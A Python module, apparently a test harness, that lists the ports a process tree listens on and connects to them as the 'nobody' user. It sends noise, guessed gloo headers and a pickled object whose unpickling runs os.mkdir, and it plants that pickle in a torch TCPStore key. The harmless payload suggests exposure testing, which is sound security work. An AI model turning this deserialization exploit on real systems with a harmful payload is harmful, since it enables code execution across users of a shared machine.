"""Which ports processes listen at, and what another user of the machine may send there."""

import base64
import os
import pickle
import signal
import socket
import struct
import time
import warnings
from collections.abc import Sequence
from contextlib import suppress
from pathlib import Path
from typing import Any, NamedTuple

NOBODY = 65534  # another user


class Port(NamedTuple):
    kind: str
    address: str
    number: int


def family(process: int) -> list[int]:
    """A process and all that it has started."""
    found = [process]
    for one in found:
        with suppress(OSError):
            for thread in Path(f"/proc/{one}/task").iterdir():
                found += map(int, (thread / "children").read_text().split())
    return found


def listening(process: int) -> set[Port]:
    """Where a process and all that it has started take connections or messages."""
    inodes = set()
    for one in family(process):
        with suppress(OSError):
            for handle in Path(f"/proc/{one}/fd").iterdir():
                with suppress(OSError):
                    inodes.add(os.readlink(handle))
    found = set()
    for kind in ("tcp", "tcp6", "udp", "udp6"):
        for line in Path(f"/proc/net/{kind}").read_text().splitlines()[1:]:
            words = line.split()
            address, _, number = words[1].partition(":")
            listens = words[3] == "0A" or kind.startswith("udp")
            if listens and f"socket:[{words[9]}]" in inodes:
                found.add(Port(kind, _readable(address), int(number, 16)))
    for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
        words = line.split()
        if words[3] == "00010000" and f"socket:[{words[6]}]" in inodes:
            found.add(Port("unix", " ".join(words[7:]), 0))
    return found


def _readable(address: str) -> str:
    words = [bytes.fromhex(address[i : i + 8])[::-1] for i in range(0, len(address), 8)]
    return socket.inet_ntop(socket.AF_INET6 if len(words) > 1 else socket.AF_INET, b"".join(words))


class Bomb:
    """Makes a directory where it is unpickled."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (str(self.path),)


def payloads(bomb: Path) -> list[bytes]:
    """Silence, noise, objects, and what gloo itself says, with guessed numbers."""
    packed = pickle.dumps(Bomb(bomb))
    hellos = [struct.pack("<q", number) for number in range(8)]
    headed = [
        hello + struct.pack("<6Q", 48 + 32, code, slot, 0, 32, 0) + bytes(32)
        for hello in hellos[:4]
        for code in range(1, 6)
        for slot in (0, 1)
    ]
    noise = os.urandom(1 << 16)
    return [
        b"", b"\0", noise[:64], noise, bytes(3 << 20), packed, struct.pack("<q", len(packed)) + packed,
        *hellos, *(hello + packed for hello in hellos), *(hello + noise for hello in hellos), *headed,
    ]  # fmt: skip


def attack(ports: Sequence[Port], sent: Sequence[bytes], seconds: float = 2.0) -> None:
    """Connect to ports and send things, as another user if this one may become that; then hang up."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)  # forking beside threads
        child = os.fork()
    if child:
        os.waitpid(child, 0)
        return
    try:
        _become_nobody()
        held = []
        for port in ports:
            for content in sent:
                with suppress(OSError):
                    held.append(socket.create_connection((port.address, port.number), 1))
                    held[-1].settimeout(0.2)
                    held[-1].sendall(content)
        time.sleep(seconds)
    finally:
        os._exit(0)


def poison_store(ports: Sequence[Port], key: str, bomb: Path) -> None:
    """What ran code once: an object for a store of torch in which a launcher keeps its state."""
    children = [_poison(port, key, bomb) for port in ports]
    for child in children:
        os.waitpid(child, 0)


def _poison(port: Port, key: str, bomb: Path) -> int:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        child = os.fork()
    if child:
        return child
    try:
        from datetime import timedelta

        from torch.distributed import TCPStore  # pyright: ignore[reportPrivateImportUsage]

        _become_nobody()
        signal.signal(signal.SIGALRM, signal.SIG_DFL)
        signal.alarm(4)  # what is no store of torch never answers
        os.dup2(os.open(os.devnull, os.O_WRONLY), 2)
        address = "127.0.0.1" if port.address == "::" else port.address
        store = TCPStore(address, port.number, is_master=False, timeout=timedelta(seconds=2))
        store.set(key, base64.b64encode(pickle.dumps(Bomb(bomb))).decode())
    finally:
        os._exit(0)


def _become_nobody() -> None:
    if os.getuid() == 0:
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)
